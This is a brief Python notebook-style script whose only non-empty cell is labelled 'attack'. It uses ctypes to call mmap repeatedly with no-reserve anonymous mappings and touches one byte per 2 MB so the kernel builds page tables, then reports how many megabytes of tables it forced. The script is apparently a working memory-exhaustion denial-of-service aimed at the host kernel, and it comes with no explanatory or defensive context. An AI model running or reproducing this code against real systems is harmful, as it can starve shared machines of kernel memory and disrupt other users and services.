# %% setup
# %% forward
# %% attack
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
descriptor = os.open("names.txt", os.O_RDONLY)
regions, failed = 0, ctypes.c_void_p(-1).value
while regions < 1_000_000:
    place = libc.mmap(None, 1 << 26, 3, 0x4022, -1, 0)  # nothing is set aside for it
    if place in (failed, None):
        break
    for start in range(0, 1 << 26, 1 << 21):
        ctypes.c_char.from_address(place + start).value = b"x"
        regions += 1
    file = libc.mmap(None, 4096, 1, 2, descriptor, 0)
    if file not in (failed, None):
        ctypes.c_char.from_address(file).value
print("MB of tables", regions * 4096 >> 20)
# %% backward
